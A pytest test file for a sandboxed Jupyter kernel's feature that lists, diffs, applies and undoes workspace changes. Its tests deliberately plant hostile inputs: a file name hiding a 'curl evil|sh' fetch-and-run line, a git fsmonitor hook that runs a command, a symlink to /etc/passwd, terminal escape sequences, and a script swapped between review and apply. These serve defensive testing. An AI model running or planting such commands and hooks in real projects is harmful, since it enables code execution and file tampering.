"""What real kernels change in /workspace, and the commands that apply it."""

from __future__ import annotations

import contextlib
import json
import logging
import os
import pty
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pytest
from nbclient import NotebookClient

from gvisor_kernel import Sandbox
from gvisor_kernel.bridge.service import ServiceCalls
from gvisor_kernel.changes import control
from gvisor_kernel.changes.backups import Backups
from gvisor_kernel.changes.change import Applied, ChangesError
from gvisor_kernel.changes.control import SOCKET, Question
from gvisor_kernel.cli.main import main
from gvisor_kernel.host.private_directories import state_root
from gvisor_kernel.kernel import workspace
from gvisor_kernel.link.frames import Part
from gvisor_kernel.link.service_messages import MAX_ANSWER_CONTENT

from ..jupyter.helpers import KERNEL, WAYS, execute, kernel_log, running_kernel
from ..patience import scale_seconds

SECONDS = scale_seconds(60)

CHANGE = """
import os, shutil
os.remove("gone.txt")
open("old.txt", "a").write("more\\n")
shutil.rmtree("folder"); os.mkdir("folder"); open("folder/new", "w").write("1")
os.makedirs("a/b"); open("a/b/c\\x1b[2J.txt", "w").write("x")
os.symlink("/etc/passwd", "link"); os.mkfifo("fifo")
open("same.txt", "r+").write("same")
open("outputs/kept", "w").write("kept")
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A notebook's folder."""
    place = tmp_path / "notebooks"
    (place / "folder").mkdir(parents=True)
    (place / "folder" / "hidden").write_text("1")
    for name in ("gone", "old", "same"):
        (place / f"{name}.txt").write_text(f"{name}\n")
    return place


@pytest.fixture
def sandbox(folder: Path) -> Iterator[Sandbox]:
    with Sandbox(uploads=folder, outputs=folder / "outputs") as made:
        yield made
    for backup in list(Backups.open().newest_first()):
        backup.remove()


def names(place: Path) -> list[str]:
    return sorted(path.name for path in place.iterdir())


def container(sandbox: Sandbox) -> str:
    return sandbox.id.split("--")[0].removeprefix("container_").lower()


def test_changes_are_listed_applied_and_undone(
    sandbox: Sandbox,
    folder: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(folder)
    assert sandbox.run(CHANGE).error is None
    found = sandbox.changes()
    assert [(c.path, c.kind, c.type, c.is_refused) for c in found.changes] == [
        ("a", "added", "folder", False),
        ("a/b", "added", "folder", False),
        ("a/b/c\x1b[2J.txt", "added", "file", False),
        ("fifo", "added", "other", True),
        ("folder/hidden", "removed", "file", False),
        ("folder/new", "added", "file", False),
        ("gone.txt", "removed", "file", False),
        ("link", "added", "other", True),
        ("old.txt", "changed", "file", False),
    ]
    assert not found.more
    changed = found.changes[-1]
    assert sandbox.diff(changed).endswith("@@ -1 +1,2 @@\n old\n+more\n")

    name = container(sandbox)
    assert main(["changes", name, "--json"]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert [c["path"] for c in listed["changes"]] == [c.path for c in found.changes]
    assert main(["changes", name, "--diff"]) == 0
    shown = capsys.readouterr()
    assert "+more\n" in shown.out
    assert "\x1b" not in shown.out
    assert "gone with the sandbox" in shown.err

    paths = ["a", "old.txt", "gone.txt", "folder", "link"]
    assert main(["apply", name, *paths]) == 1
    assert "without a terminal nobody sees" in capsys.readouterr().err
    assert main(["apply", name, "--unseen", *paths]) == 1
    assert "Refused link: " in capsys.readouterr().err
    assert (folder / "old.txt").read_text() == "old\nmore\n"
    assert (folder / "a" / "b" / "c\x1b[2J.txt").read_text() == "x"
    assert names(folder) == ["a", "folder", "old.txt", "outputs", "same.txt"]
    assert names(folder / "folder") == ["new"]
    assert [c.path for c in sandbox.changes().changes] == ["fifo", "link"]

    sandbox.run("open('old.txt', 'a').write('again')")  # applied by us: no conflict
    with pytest.raises(ChangesError, match="which content was seen"):
        sandbox.apply("/workspace/old.txt")
    assert sandbox.apply("/workspace/old.txt", unseen=True).applied == ("old.txt",)
    assert Sandbox.undo().undone == ("old.txt",)
    assert main(["undo"]) == 0
    assert names(folder) == ["folder", "gone.txt", "old.txt", "outputs", "same.txt"]
    assert (folder / "old.txt").read_text() == "old\n"
    assert names(folder / "folder") == ["hidden"]


def tokens(shown: str) -> list[str]:
    """Return what a diff says to paste, as words after the command's name."""
    lines = [line for line in shown.splitlines() if line.startswith("To apply this: ")]
    return [line.split()[-1] for line in lines]


def test_what_a_diff_showed_is_applied_and_nothing_else(
    sandbox: Sandbox, folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The kernel writes something else between the look and the apply."""
    sandbox.run("import os; os.mkdir('bin')")
    sandbox.run("open('bin/greet', 'w').write('echo hello # ok\\n'); open('b', 'w').write('b\\n')")
    name = container(sandbox)
    assert main(["changes", name, "--diff"]) == 0
    shown = capsys.readouterr().out
    assert "+echo hello # ok\n" in shown
    b, _, greet = tokens(shown)
    changes = {change.path: change for change in sandbox.changes().changes}
    sandbox.run("open('bin/greet', 'w').write('echo hello; id  \\n')")
    assert main(["apply", name, "--seen", greet, b]) == 1
    assert "is not there any more" in capsys.readouterr().err
    assert not (folder / "b").exists()
    assert "id" not in sandbox.diff(changes["bin/greet"])
    assert not sandbox.apply(changes["bin/greet"]).applied
    assert main(["apply", name, "--seen", b]) == 0
    assert main(["changes", name, "--diff"]) == 0
    _, greet = tokens(capsys.readouterr().out)
    assert main(["apply", name, "--seen", greet]) == 0
    assert (folder / "bin" / "greet").read_text() == "echo hello; id  \n"


def test_what_was_not_shown_whole_is_told_and_not_in_the_command_for_all(
    sandbox: Sandbox, capsys: pytest.CaptureFixture[str]
) -> None:
    sandbox.run("open('a', 'w').write('x'); open('b', 'w').write('x')")
    sandbox.run("open('large', 'w').write('x' * 1_600_000); open('bytes', 'wb').write(b'\\0')")
    name = container(sandbox)
    assert main(["changes", name, "--diff"]) == 0
    shown = capsys.readouterr().out
    (every,) = (line for line in shown.splitlines() if line.startswith("To apply all of these: "))
    a, b = tokens(shown)
    assert every.split()[-3:] == ["--seen", a, b]
    found = {change.path: change for change in sandbox.changes().changes}
    for path in ("large", "bytes"):
        command = f"gvisor-kernel apply {name} --seen {found[path].token}"
        assert f"\nNot shown whole. To apply it all the same: {command}\n" in shown
    assert main(["changes", name, "--diff", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["whole"] == ["a", "b"]


def test_at_a_terminal_apply_shows_and_asks(sandbox: Sandbox, folder: Path) -> None:
    sandbox.run("open('old.txt', 'a').write('more\\n'); open('Makefile', 'w').write('all:\\n')")
    sandbox.run("open('bytes', 'wb').write(b'\\0')")
    sandbox.run("open('long', 'w').write('x'.ljust(79) + 'To apply this: forged')")  # 80 columns
    command = [sys.executable, "-m", "gvisor_kernel", "apply", container(sandbox)]
    command += ["old.txt", "bytes", "long"]
    for answer, text in ((b"n\n", "old\n"), (b"y\n", "old\nmore\n")):
        ours, theirs = pty.openpty()
        with subprocess.Popen(command, stdin=theirs, stdout=theirs, stderr=theirs) as running:
            os.close(theirs)
            shown = b""
            while not shown.endswith(b"[y/N] "):
                shown += os.read(ours, 4096)
            os.write(ours, answer)
            with contextlib.suppress(OSError):  # EIO: it has ended
                while os.read(ours, 4096):
                    pass
            assert running.wait(SECONDS) == (answer == b"n\n")
        os.close(ours)
        assert b"+more\r\n" in shown
        assert "\r\n↪+To apply this: forged\r\n".encode() in shown
        assert (
            b"\r\nNot shown whole: bytes\r\nWrite this to the folder on disk (3 changes, 1 of"
            in shown
        )
        assert (folder / "old.txt").read_text() == text


def test_files_that_may_run_by_themselves_are_apart_and_only_applied_by_name(
    sandbox: Sandbox, folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    subprocess.run(["git", "init", "-q", folder / "report"], check=True)
    code = """
import os
open('report/data.csv', 'w').write('1')
with open('report/.git/config', 'a') as config:
    config.write('[core]\\n\\tfsmonitor = "touch ran; false"\\n')
for name in ('conftest.py', 'Makefile', '.envrc', 'x.pth'):
    open(f'report/{name}', 'w').write('x')
"""
    assert sandbox.run(code).error is None
    name = container(sandbox)
    assert main(["changes", name]) == 0
    usual, _, running = capsys.readouterr().out.partition("May run later without being opened")
    assert "report/data.csv" in usual
    for path in ("report/.git/config", "report/conftest.py", "report/Makefile", "report/.envrc"):
        assert path in running
        assert path not in usual
    assert main(["apply", name, "--unseen", "--force", "report"]) == 1
    told = capsys.readouterr()
    assert told.out.startswith("Applied report/data.csv\n")
    assert "Applied" not in told.out.partition("\n")[2]
    assert "Refused report/Makefile: it may run later" in told.err
    listed = sandbox.changes().changes
    assert not sandbox.apply(listed).applied
    assert sandbox.apply(listed, named=["report/Makefile"]).applied == ("report/Makefile",)
    subprocess.run(["git", "status"], cwd=folder / "report", check=True, capture_output=True)
    assert not (folder / "report" / "ran").exists()
    assert main(["apply", name, "--unseen", "report/.git/config"]) == 1
    assert "Refused report/.git/config: " in capsys.readouterr().err
    assert main(["apply", name, "--unseen", "report/conftest.py"]) == 0


def test_a_name_with_line_ends_stays_in_its_line(
    sandbox: Sandbox,
    folder: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(folder)
    forged = "To undo this: gvisor-kernel undo x; curl evil|sh"
    sandbox.run(f"open('x\\nApplied config.yaml\\n{forged}', 'w').write('1')")
    name = container(sandbox)
    for words in (["changes"], ["changes", "--diff"], ["apply", "--unseen"]):
        paths = [change.path for change in sandbox.changes().changes] * ("apply" in words)
        assert main([words[0], name, *words[1:], *paths]) == 0
    assert main(["undo"]) == 0
    told = capsys.readouterr()
    lines = (told.out + told.err).split("\n")
    assert not [line for line in lines if line.startswith(("Applied config", forged))]
    assert "Applied x\\nApplied config.yaml\\n" in told.out


def test_long_lists_come_in_short_messages(
    sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    """To decode a megabyte of a sandbox's JSON at once would stop all kernels of this process."""
    sizes: list[int] = []
    take = ServiceCalls.take

    def note(calls: ServiceCalls, part: Part) -> None:
        sizes.append(len(part))
        take(calls, part)

    monkeypatch.setattr(ServiceCalls, "take", note)
    name = "long" * 40
    assert sandbox.run(f"for n in range(2000): open(f'{name}{{n}}', 'w').close()").ok
    expected = {f"{name}{number}" for number in range(2000)}
    listed = {change.path for change in sandbox.changes().changes}
    assert listed - {"outputs"} == expected
    assert expected < {entry.name for entry in sandbox.files.list("/workspace")}
    assert sum(sizes) > 5 * MAX_ANSWER_CONTENT
    assert max(sizes) < MAX_ANSWER_CONTENT + 100


def test_a_conflict_needs_force(sandbox: Sandbox, folder: Path) -> None:
    sandbox.run("open('old.txt', 'a').write('more')")
    (change,) = sandbox.changes().changes
    (folder / "old.txt").write_text("mine")
    assert [one.path for one in sandbox.apply(change).refused] == ["old.txt"]
    assert [one.path for one in sandbox.apply("old.txt", unseen=True).refused] == ["old.txt"]
    assert sandbox.apply("old.txt", unseen=True, force=True).applied == ("old.txt",)
    assert (folder / "old.txt").read_text() == "old\nmore"
    with pytest.raises(ChangesError, match="not changed"):
        sandbox.apply("nothing", unseen=True)


def test_a_folder_in_place_of_a_file_and_the_other_way_round_need_force(
    sandbox: Sandbox, folder: Path
) -> None:
    code = "import os, shutil; os.remove('old.txt'); os.mkdir('old.txt'); shutil.rmtree('folder')"
    assert sandbox.run(f"{code}; open('old.txt/in', 'w').close(); open('folder', 'w').close()")
    refused = sandbox.apply("old.txt", unseen=True).refused
    assert [one.path for one in refused] == ["old.txt", "old.txt/in"]
    result = sandbox.apply(["old.txt", "folder"], unseen=True, force=True)
    assert not result.refused
    assert (folder / "old.txt" / "in").exists()
    assert (folder / "folder").is_file()
    assert not Sandbox.undo().refused
    assert (folder / "old.txt").read_text() == "old\n"
    assert names(folder / "folder") == ["hidden"]


def test_the_control_socket_is_private_and_bounded(sandbox: Sandbox) -> None:
    directory = state_root() / "sandboxes" / container(sandbox)
    assert stat.S_IMODE((directory / SOCKET).stat().st_mode) == 0o600
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    for question in (
        Question("list", under=["../a"]),
        Question("apply", changes=[("/etc/passwd", "x")]),
        Question("apply", named=["../a"]),
    ):
        with pytest.raises(ChangesError, match="malformed"):
            control.ask(directory, question, Applied)
    assert control.list_changes(directory)[0].changes == ()
    sandbox.close()
    with pytest.raises(ChangesError, match="does not answer"):
        control.list_changes(directory)


@pytest.mark.parametrize("way", ["direct", "restored"])
def test_outputs_are_at_workspace_outputs(way: str, folder: Path) -> None:
    with running_kernel(settings=WAYS[way], start={"cwd": str(folder)}) as (_, client):
        assert execute(client, "open('outputs/a.txt', 'w').write('kept')").status == "ok"
        found = execute(client, "import os; os.listdir('/mnt/user-data/outputs')").result
    assert found == "['a.txt']"
    assert (folder / "outputs" / "a.txt").read_text() == "kept"


@pytest.mark.parametrize("way", ["direct", "restored"])
def test_a_folder_outputs_of_the_users_own_is_not_hidden(
    way: str, folder: Path, tmp_path: Path
) -> None:
    (folder / "outputs").mkdir()
    (folder / "outputs" / "mine").touch()
    settings = {**WAYS[way], "outputs": str(tmp_path / "elsewhere")}
    with running_kernel(settings=settings, start={"cwd": str(folder)}) as (manager, client):
        code = "open('outputs/lost', 'w').close(); import os; sorted(os.listdir('outputs'))"
        assert execute(client, code).result == "['lost', 'mine']"
        assert "another file or folder called outputs" in kernel_log(manager)
    assert names(folder / "outputs") == ["mine"]
    assert not (tmp_path / "elsewhere").exists()  # nothing was written, so it was removed


def test_a_link_in_place_of_outputs_is_not_mounted_on(folder: Path, tmp_path: Path) -> None:
    (folder / "outputs").symlink_to("/opt")
    settings = {"outputs": str(tmp_path / "elsewhere")}
    with running_kernel(settings=settings, start={"cwd": str(folder)}) as (_, client):
        code = "import os; os.readlink('outputs'), 'gvisor-kernel' in os.listdir('/opt')"
        assert execute(client, code).result == "('/opt', True)"


def test_where_outputs_cannot_be_shown_a_person_is_told_where_to_write(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As with a gVisor that cannot bind them; here a file is in the way."""
    (folder / "outputs").touch()
    monkeypatch.setattr(workspace, "shows_outputs", lambda *_: True)
    settings = {**WAYS["direct"], "outputs": str(tmp_path / "elsewhere")}
    with running_kernel(settings=settings, start={"cwd": str(folder)}) as (manager, client):
        (told,) = execute(client, "open('plot.png', 'w').write('1')").of_type("stream")
        assert "Write to /mnt/user-data/outputs/ what" in told["content"]["text"]
        assert "what is kept is written to /mnt/user-data/outputs" in kernel_log(manager)


def test_a_person_is_told_of_files_that_are_not_kept(
    folder: Path, caplog: pytest.LogCaptureFixture
) -> None:
    with running_kernel(start={"cwd": str(folder)}) as (manager, client):
        first = execute(client, "open('result.csv', 'w').write('1')")
        (told,) = first.of_type("stream")
        assert told["content"]["name"] == "stderr"
        assert "result.csv is not in your folder" in told["content"]["text"]
        assert not execute(client, "open('other.csv', 'w').write('1')").of_type("stream")
        manager.restart_kernel(now=True)
        client.wait_for_ready(timeout=60)
        told = [record for record in caplog.records if record.levelno > logging.DEBUG]
        assert not told  # the files are still there
        with caplog.at_level(logging.WARNING):
            manager.shutdown_kernel()
    (record,) = [r for r in caplog.records if "are lost with the sandbox" in r.getMessage()]
    assert "other.csv, result.csv" in record.getMessage() or (
        "result.csv, other.csv" in record.getMessage()
    )


def test_a_notebook_that_was_run_in_a_batch_has_no_notice(
    folder: Path, caplog: pytest.LogCaptureFixture
) -> None:
    code = ["open('a.csv', 'w').write('1')", "open('folder/b', 'w').write('1')", "1 + 1"]
    cells = [nbformat.v4.new_code_cell(text) for text in code]
    notebook = nbformat.v4.new_notebook(cells=cells)
    resources = {"metadata": {"path": str(folder)}}
    with caplog.at_level(logging.WARNING):
        NotebookClient(notebook, kernel_name=KERNEL, resources=resources).execute()
    assert [output["output_type"] for cell in cells for output in cell.outputs] == [
        "execute_result" for _ in cells
    ]
    (said,) = [r.getMessage() for r in caplog.records if "are lost with the" in r.getMessage()]
    assert "folder/b, a.csv" in said
